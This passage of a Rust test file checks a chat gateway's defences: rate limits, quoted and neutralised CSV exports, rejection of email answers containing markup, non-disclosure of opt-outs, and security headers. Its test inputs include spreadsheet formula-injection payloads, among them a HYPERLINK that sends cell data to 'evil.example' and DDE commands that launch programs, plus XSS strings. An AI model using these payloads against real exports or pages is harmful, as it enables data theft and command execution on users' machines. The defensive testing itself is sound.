    assert!(
        refused,
        "a reconnect reset the allowance ({:?} after the first frame): {seen:?}",
        window_start.elapsed()
    );
    let (late, _) = frames_until(&mut ws, Duration::from_millis(500), |_| false).await;
    assert!(
        seen.iter()
            .chain(&late)
            .all(|v| v["text"] != "after reconnect"),
        "the refused frame was taken: {seen:?} {late:?}"
    );
    assert_metric_at_least(
        &gw,
        "crossline_chat_frames_refused_total{reason=\"rate\"}",
        1.0,
    );

    // The window over, the visitor writes again.
    tokio::time::sleep(
        (window_start + Duration::from_millis(10_500)).saturating_duration_since(Instant::now()),
    )
    .await;
    common::chat::send(&mut ws, json!({"type": "text", "text": "later"})).await;
    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(5), |v| {
        v["role"] == "visitor" && v["text"] == "later"
    })
    .await;
    assert!(ok, "after the window: {seen:?}");
    assert!(!seen.iter().any(too_many), "{seen:?}");
}

/// The cells of a CSV text (RFC 4180), each as (was it quoted, value).
fn csv_cells(text: &str) -> Vec<Vec<(bool, String)>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut chars = text.chars().peekable();
    loop {
        let mut cell = String::new();
        let quoted = chars.peek() == Some(&'"');
        if quoted {
            chars.next();
            loop {
                match chars.next() {
                    Some('"') if chars.peek() == Some(&'"') => {
                        chars.next();
                        cell.push('"');
                    }
                    Some('"') | None => break,
                    Some(c) => cell.push(c),
                }
            }
        }
        while let Some(&c) = chars.peek() {
            if c == ',' || c == '\r' || c == '\n' {
                break;
            }
            cell.push(c);
            chars.next();
        }
        row.push((quoted, cell));
        match chars.next() {
            Some(',') => continue,
            Some('\r') => {
                if chars.peek() == Some(&'\n') {
                    chars.next();
                }
            }
            Some('\n') => {}
            _ => {
                if row != vec![(false, String::new())] {
                    rows.push(row);
                }
                return rows;
            }
        }
        rows.push(std::mem::take(&mut row));
        if chars.peek().is_none() {
            return rows;
        }
    }
}

/// Would a spreadsheet read `cell` as a formula? (It starts with a
/// trigger, also behind spaces or quotes, or a fullwidth one.)
fn reads_as_formula(cell: &str) -> bool {
    const TRIGGERS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
    cell.starts_with(TRIGGERS)
        || cell
            .trim_start_matches(|c: char| c.is_whitespace() || matches!(c, '"' | '\''))
            .starts_with(TRIGGERS)
            && !cell.starts_with('\'')
}

/// The escalation report's CSV export: text that a spreadsheet would run
/// as a formula (from a callback's `bot` or `conversation_id`, which API
/// clients choose) is quoted and prefixed with `'`; every cell is quoted;
/// the JSON report keeps the values as given.
#[test]
fn csv_export_neutralises_formulas() {
    // The carrier: a socket that takes the INVITEs and says nothing.
    let carrier = UdpSocket::bind("127.0.0.1:0").unwrap();
    let carrier_port = carrier.local_addr().unwrap().port();
    let gw = Gateway::start(&format!(
        "[http]\noperator_token = \"{CHAT_OPERATOR_TOKEN}\"\n\n\
         [[trunks]]\nname = \"carrier\"\noutbound_proxy = \"sip:127.0.0.1:{carrier_port}\"\ncaller_id = \"+15550100000\"\n"
    ));
    let bots = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "＝1+1",
        "＠SUM(A1)",
        "  =cmd|' /C calc'!A0",
        "\"=1\"",
        "plain-bot",
    ];
    let conversation = "=2+5+cmd|' /C notepad'!A0";
    let auth = format!("Bearer {CHAT_OPERATOR_TOKEN}");
    for (i, bot) in bots.iter().enumerate() {
        let mut body = serde_json::json!({
            "phone": format!("+3461200{i:04}"),
            "flow": "demo",
            "bot": bot,
            "consent": { "given": true, "text": "You agree that we call you back." }
        });
        if i == 0 {
            body["conversation_id"] = serde_json::json!(conversation);
        }
        let r = gw.http(
            "POST",
            "/v1/callbacks",
            &[
                ("Authorization", &auth),
                ("Content-Type", "application/json"),
            ],
            Some(&body.to_string()),
        );
        assert_eq!(r.status, 201, "callback {i} ({bot:?}): {}", r.body);
    }

    // The report (the store may be a write behind).
    let deadline = Instant::now() + Duration::from_secs(5);
    let csv = loop {
        let r = operator_get(&gw, "/v1/reports/escalations?format=csv");
        assert_eq!(r.status, 200, "{}", r.body);
        if r.body.lines().count() > bots.len() || Instant::now() > deadline {
            break r;
        }
        std::thread::sleep(Duration::from_millis(200));
    };
    assert!(csv.headers.contains("text/csv"), "{}", csv.raw_headers);
    let rows = csv_cells(&csv.body);
    assert_eq!(rows.len(), bots.len() + 1, "{}", csv.body);
    let columns: Vec<&str> = rows[0].iter().map(|(_, c)| c.as_str()).collect();
    let bot_col = columns
        .iter()
        .position(|c| *c == "bot")
        .expect("a bot column");
    let conv_col = columns
        .iter()
        .position(|c| *c == "conversation_id")
        .expect("a conversation_id column");
    let mut wrong = Vec::new();
    for (r, row) in rows.iter().enumerate().skip(1) {
        if row.len() != columns.len() {
            wrong.push(format!("row {r} has {} cells: {row:?}", row.len()));
        }
        for (c, (quoted, cell)) in row.iter().enumerate() {
            if !quoted {
                wrong.push(format!("row {r} cell {c} not quoted: {cell:?}"));
            }
            if reads_as_formula(cell) {
                wrong.push(format!("row {r} cell {c} reads as a formula: {cell:?}"));
            }
        }
    }
    let exported_bots: Vec<&str> = rows[1..]
        .iter()
        .map(|row| row[bot_col].1.as_str())
        .collect();
    for bot in bots {
        let want = if bot == "plain-bot" {
            bot.to_string()
        } else {
            format!("'{bot}")
        };
        if !exported_bots.contains(&want.as_str()) {
            wrong.push(format!("bot {bot:?}: want {want:?} in {exported_bots:?}"));
        }
    }
    let want_conv = format!("'{conversation}");
    if !rows[1..].iter().any(|row| row[conv_col].1 == want_conv) {
        wrong.push(format!("conversation_id: want {want_conv:?}"));
    }
    assert!(wrong.is_empty(), "{}\n\n{}", wrong.join("\n"), csv.body);

    // The JSON report holds the values as given.
    let json = operator_get(&gw, "/v1/reports/escalations").json();
    let json_bots: Vec<&str> = json["escalations"]
        .as_array()
        .unwrap()
        .iter()
        .filter_map(|e| e["bot"].as_str())
        .collect();
    for bot in bots {
        assert!(json_bots.contains(&bot), "{bot:?} in {json_bots:?}");
    }
    drop(carrier);
}

/// An email answer with markup in it (`a<script>@x.com`) is refused: the
/// flow asks again and keeps nothing; a plain address is taken and kept.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn emails_with_markup_are_refused() {
    use serde_json::json;
    let flows = finding_flows();
    let (port, _log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway_with(flows.path(), "email-test", port, "", "");
    let (_id, mut ws) = open_chat_socket(&gw).await;
    let is_prompt = |v: &serde_json::Value| v["type"] == "prompt" && v["input"] == "email";
    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(10), is_prompt).await;
    assert!(ok, "the email question: {seen:?}");
    let mut prompt = seen.last().unwrap()["id"].clone();
    let mut every = seen;

    for bad in ["a<script>@x.com", "ana@example.com\"><svg/onload=alert(1)>"] {
        common::chat::send(
            &mut ws,
            json!({"type": "answer", "prompt": prompt, "value": bad}),
        )
        .await;
        let (seen, asked) = frames_until(&mut ws, Duration::from_secs(10), is_prompt).await;
        assert!(
            asked,
            "{bad:?} was not refused with a new question: {seen:?}"
        );
        let again = seen.last().unwrap();
        assert_eq!(
            again["text"], "That doesn't look like an email address. Could you type it again?",
            "{bad:?}: {seen:?}"
        );
        prompt = again["id"].clone();
        every.extend(seen);
    }
    assert!(
        every
            .iter()
            .all(|v| !v["text"].as_str().unwrap_or_default().starts_with("Thanks")),
        "the flow went on: {every:?}"
    );

    common::chat::send(
        &mut ws,
        json!({"type": "answer", "prompt": prompt, "value": "ana@example.com"}),
    )
    .await;
    let (seen, ok) = frames_until(&mut ws, Duration::from_secs(10), |v| {
        v["role"] == "bot" && v["text"] == "Thanks, we will write to ana@example.com."
    })
    .await;
    assert!(ok, "the plain address: {seen:?}");

    // The lead holds the good address only.
    let deadline = Instant::now() + Duration::from_secs(5);
    let leads = loop {
        let r = operator_get(&gw, "/v1/leads");
        assert_eq!(r.status, 200, "{}", r.body);
        let leads = r.json()["leads"].as_array().cloned().unwrap_or_default();
        if !leads.is_empty() || Instant::now() > deadline {
            break leads;
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    assert_eq!(leads.len(), 1, "{leads:?}");
    assert_eq!(leads[0]["email"], "ana@example.com", "{leads:?}");
}

/// A stranger asking the web chat to switch to a number that sent STOP
/// learns only that it could not be texted: nothing about STOP or opting
/// out, and nothing is sent to it. The visitor's own number still works.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_switch_does_not_disclose_that_a_number_sent_stop() {
    use serde_json::json;
    let (port, log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway(port, "", "");
    let stopped = "+34633000444";
    let r = inbound_sms(&gw, "SM00000000000000000000000000000044", stopped, "STOP");
    assert_eq!(r.status, 200, "{}", r.body);
    assert_metric_at_least(
        &gw,
        "crossline_inbound_messages_total{channel=\"sms\",result=\"stop\"}",
        1.0,
    );

    let (_id, mut ws) = open_chat_socket(&gw).await;
    let seen = switch_frame(
        &mut ws,
        json!({"type": "switch", "channel": "sms", "phone": stopped}),
    )
    .await;
    let answer = seen.last().unwrap();
    assert_eq!(answer["type"], "switch_failed", "{seen:?}");
    assert_eq!(
        answer["text"], "We could not send a message to that number.",
        "{seen:?}"
    );
    for v in &seen {
        let text = v.to_string().to_lowercase();
        assert!(
            !text.contains("stop") && !text.contains("opt"),
            "a frame tells of the opt-out: {v}"
        );
    }
    std::thread::sleep(Duration::from_millis(300));
    assert!(
        common::standin::sms_to(&log, stopped).is_empty(),
        "{:?}",
        common::standin::sms_to(&log, stopped)
    );

    // The visitor's own number gets its code.
    let mine = "+34612345678";
    let seen = switch_frame(
        &mut ws,
        json!({"type": "switch", "channel": "sms", "phone": mine}),
    )
    .await;
    assert_eq!(seen.last().unwrap()["type"], "switch_code", "{seen:?}");
    assert_eq!(common::standin::sms_to(&log, mine).len(), 1);
    assert_eq!(all_sms(&log).len(), 1, "{:?}", all_sms(&log));
}

/// The value of a response header (lower-cased), if present.
fn header_value(r: &HttpReply, name: &str) -> Option<String> {
    r.headers.lines().find_map(|l| {
        let (k, v) = l.split_once(':')?;
        (k.trim() == name).then(|| v.trim().to_string())
    })
}

/// The chat page and /healthz cannot be framed, sniffed or leak their
/// URL as a referrer; the console keeps its own policy, also unframeable
/// and without a referrer.
#[test]
fn pages_carry_the_security_headers() {
    let (port, _log, _twilio) = common::standin::stand_in();
    let gw = chat_gateway(port, "", "");
    let mut wrong = Vec::new();
    for path in ["/chat/", "/healthz", "/console/"] {
        let r = gw.http("GET", path, &[], None);
        if r.status != 200 {
            wrong.push(format!("{path}: status {}", r.status));
        }
        let csp = header_value(&r, "content-security-policy").unwrap_or_default();
        if !csp.split(';').any(|d| d.trim() == "frame-ancestors 'none'") {
            wrong.push(format!(
                "{path}: CSP without frame-ancestors 'none': {csp:?}"
            ));
        }
        if header_value(&r, "x-content-type-options").as_deref() != Some("nosniff") {
            wrong.push(format!("{path}: no X-Content-Type-Options: nosniff"));
        }
        if header_value(&r, "referrer-policy").as_deref() != Some("no-referrer") {
            wrong.push(format!(
                "{path}: Referrer-Policy {:?}",
                header_value(&r, "referrer-policy")
            ));
        }
    }
    // The console runs under a policy of its own, not the default.
    let console = gw.http("GET", "/console/", &[], None);
    let csp = header_value(&console, "content-security-policy").unwrap_or_default();
    if !csp.contains("connect-src 'self'") {
        wrong.push(format!("/console/: not its own CSP: {csp:?}"));
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

// The finding "Call-ID with ESC/NUL reaching the CDR" is held by
// tests/sip_calls.rs `control_characters_in_the_call_id_never_reach_the_cdr`.
